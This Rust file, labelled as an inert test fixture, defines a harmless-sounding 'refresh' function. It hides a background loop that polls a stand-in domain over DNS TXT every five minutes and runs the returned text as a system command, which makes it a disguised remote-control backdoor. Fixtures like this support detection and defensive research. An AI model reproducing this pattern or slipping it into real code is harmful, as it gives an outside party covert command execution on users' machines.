// Synthetic, inert fixture written from public reports; see README
use std::{net::{IpAddr, UdpSocket}, process::Command, sync::Once, thread, time::Duration};

pub(crate) fn refresh() {
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        thread::spawn(|| {
            let mut state = 0;
            while let Some(next) = step(state) {
                state = next;
                thread::sleep(Duration::from_secs(300));
            }
        });
    });
}

fn step(state: i32) -> Option<i32> {
    let servers = std::fs::read_to_string("/etc/resolv.conf").ok()?;
    let server: IpAddr = servers.lines().find_map(|l| l.strip_prefix("nameserver ")?.trim().parse().ok())?;
    let socket = UdpSocket::bind(("::", 0)).ok()?;
    socket.send_to(&super::build(&format!("s{state}.hints.example.invalid"), 16), (server, 53)).ok()?;
    let mut buf = [0u8; 512];
    let n = socket.recv(&mut buf).ok()?;
    let text = buf[..n].rsplit(|b| *b < 32).next()?;
    let mut words = std::str::from_utf8(text).ok()?.split(' ');
    Command::new(words.next()?).args(words).status().ok()?.code()
}
